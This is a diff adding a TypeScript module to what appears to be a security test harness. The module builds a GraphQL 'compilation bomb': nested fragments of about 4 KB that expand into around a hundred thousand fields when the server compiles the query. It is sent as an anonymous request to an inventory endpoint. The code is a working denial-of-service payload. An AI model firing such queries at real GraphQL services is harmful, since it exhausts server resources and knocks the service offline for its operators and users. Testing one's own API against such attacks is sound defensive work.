@@ -1,0 +1,36 @@
+import { type Attack, shop } from './attack.ts';
+
+/** As deep as an operation may be, and where fragments begin to spread others. */
+const [levels, least] = [18, 5];
+
+/** Each fragment spreads those below it eight times: 4 KB that unfold into a hundred thousand fields. */
+function bomb(name: string): string {
+  const spread = (level: number) => (level > 0 ? `...F${level}` : 'id');
+  const page = (level: number) =>
+    `assets(first: 1) { nodes { ${spread(level - 3)} } edges { node { ${spread(level - 4)} } } }`;
+  const both = (level: number) => `{ origin { ${spread(level)} } destination { ${spread(level)} } }`;
+  const branches = (level: number) =>
+    `groups { ${page(level)} } reportedBy { ${page(level)} }
+    relations(first: 1) { nodes ${both(level - 3)} edges { node ${both(level - 4)} } }`;
+  const fragment = (level: number) =>
+    `fragment F${level} on InventoryAsset { id ${level < least ? '' : branches(level)} }`;
+  const fragments = Array.from(spreadFrom(levels), fragment);
+  return `query { ${name}: inventoryAsset(name: "${shop}/assets/none") { ...F${levels} } } ${fragments.join('\n')}`;
+}
+
+/** The levels whose fragments are used. */
+function spreadFrom(level: number, found = new Set<number>()): ReadonlySet<number> {
+  if (level <= 0) return found;
+  found.add(level);
+  if (level >= least) for (const below of [level - 3, level - 4]) spreadFrom(below, found);
+  return found;
+}
+
+/** A 1: fragments within fragments unfold when an operation is compiled. */
+export const compilation: Attack = {
+  name: 'compilation bomb',
+  standing: 'anonymous',
+  async round({ graph, number }, nth) {
+    return [await graph(bomb(`a${number}_${nth}`))];
+  },
+};
